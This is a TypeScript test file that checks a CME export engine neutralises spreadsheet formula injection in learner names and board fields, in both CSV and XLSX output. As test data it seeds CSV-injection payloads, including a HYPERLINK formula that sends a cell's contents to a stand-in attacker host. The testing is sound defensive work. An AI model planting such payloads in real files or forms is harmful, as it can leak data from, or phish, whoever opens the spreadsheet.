import * as XLSX from 'xlsx';
import type { ExportRequest } from '../../../../src/cme/exports';
import { useTestDatabase } from '../../../support';
import {
  exportOf,
  linesOf,
  seedActivity,
  seedEntry,
  seedProfile,
  seedTenant,
  validNpi,
} from './engine.support';

// Text typed by learners (names, board, board ID) that a spreadsheet would run as a formula is neutralised in every
// file (issue 14 review): the PARS CSV and the PARS XLSX both prefix it with an apostrophe.
useTestDatabase();

const asOf = new Date('2026-06-01T17:00:00Z');
let request: (format: ExportRequest['format']) => ExportRequest;

beforeAll(async () => {
  const tenantId = await seedTenant('review14-xlsx');
  request = (format) => ({
    tenantId,
    format,
    filter: { from: '2026-01-01', to: '2026-06-30', activity: '', creditType: '', profession: '' },
    asOf,
    timeZone: 'America/Chicago',
  });
  const activity = await seedActivity(tenantId);
  // What the profile form accepts: free text up to 100 characters, trimmed, nothing else checked.
  const userId = await seedProfile(tenantId, {
    profession: 'physician-md',
    firstName: '=HYPERLINK("https://evil.example/?"&E2,"Fix your record")',
    lastName: '+Raman',
    npi: validNpi('523456789'),
    certifyingBoard: '-2+3',
    boardId: '@SUM(1)',
    birthMonthDay: '0704',
    consents: ['pars'],
  });
  await seedEntry({
    tenantId,
    userId,
    activity,
    creditType: 'ama-pra-1',
    amount: 1,
    completionDate: '2026-03-02',
    profession: 'physician-md',
    recordedAt: new Date('2026-04-20T12:00:00Z'),
  });
});

describe('formula-looking text typed by a learner', () => {
  it('when the PARS CSV is made, then each such cell starts with an apostrophe', async () => {
    const { text } = await exportOf(request('pars-csv'));
    const row = linesOf(text)[1]!;
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?""&E2,""Fix your record"")"`);
    expect(row).toContain("'+Raman");
  });

  it('when the PARS XLSX of the same rows is made, then no text cell starts with = + - or @ either', async () => {
    const { bytes } = await exportOf(request('pars-xlsx'));
    const sheet = XLSX.read(bytes).Sheets.Learners!;
    const texts = ['D2', 'E2', 'J2', 'K2'].map((address) => String(sheet[address]?.v ?? ''));
    // exceljs alone writes them as t="str" cells holding the raw text ("=HYPERLINK(…)", "+Raman", …).
    for (const text of texts) expect(text).not.toMatch(/^[=+\-@\t\r]/);
  });
});
